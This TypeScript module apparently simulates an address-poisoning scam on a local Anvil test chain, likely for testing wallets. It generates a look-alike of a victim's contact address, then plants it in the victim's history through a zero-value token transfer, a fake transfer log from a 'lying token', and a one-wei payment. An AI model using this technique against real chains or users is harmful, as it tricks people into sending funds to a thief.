/** Address poisoning: puts an address into the victim's history that resembles one which the victim pays. */
import { createClient, encodeFunctionData, erc20Abi, http, parseAbi, type Address, type Hex } from 'viem'
import { callNode } from './json-rpc.ts'
import { requestContracts } from './request-contracts.ts'
import { receiptOf } from './wallets/receipt.ts'

const abi = parseAbi([
  'function poison(address token, address victim, address lookAlike)',
  'function tell(address from, address to, uint256 value)',
])

/** An address with the same first and last four digits, and different ones in between. */
export function lookAlikeOf(address: Address): Address {
  const middle = address.slice(6, -4).toLowerCase()
  const other = [...middle].map((digit) => ((Number.parseInt(digit, 16) + 7) % 16).toString(16)).join('')
  return `0x${address.slice(2, 6).toLowerCase()}${other}${address.slice(-4).toLowerCase()}`
}

/**
 * Sends to a victim from a look-alike of `contact`: a transfer of zero in a real token, a transfer that a lying token only logs, and one wei.
 * Resolves with the look-alike once all are mined; with interval mining, after at most three blocks.
 */
export async function poison(
  rpcUrl: string,
  target: { victim: Address; contact: Address; token: Address },
): Promise<Address> {
  const { victim, contact, token } = target
  const lookAlike = lookAlikeOf(contact)
  const { poisoner, lyingToken } = requestContracts
  const client = createClient({ transport: http(rpcUrl) })
  const as = async (from: Address, to: Address, data: Hex, value: Hex = '0x0') => {
    const hash = await callNode(rpcUrl, 'eth_sendTransaction', [{ from, to, data, value }])
    await receiptOf(client, hash as Hex)
  }
  await callNode(rpcUrl, 'anvil_setBalance', [lookAlike, '0xde0b6b3a7640000'])
  await callNode(rpcUrl, 'anvil_impersonateAccount', [lookAlike])
  const args = { abi, functionName: 'poison', args: [token, victim, lookAlike] } as const
  await as(lookAlike, poisoner, encodeFunctionData(args))
  const lie = { abi, functionName: 'tell', args: [victim, lookAlike, 1_000n * 10n ** 18n] } as const
  await as(lookAlike, lyingToken, encodeFunctionData(lie))
  await as(lookAlike, victim, '0x', '0x1')
  await as(
    lookAlike,
    token,
    encodeFunctionData({ abi: erc20Abi, functionName: 'transfer', args: [victim, 0n] }),
  )
  await callNode(rpcUrl, 'anvil_stopImpersonatingAccount', [lookAlike])
  return lookAlike
}
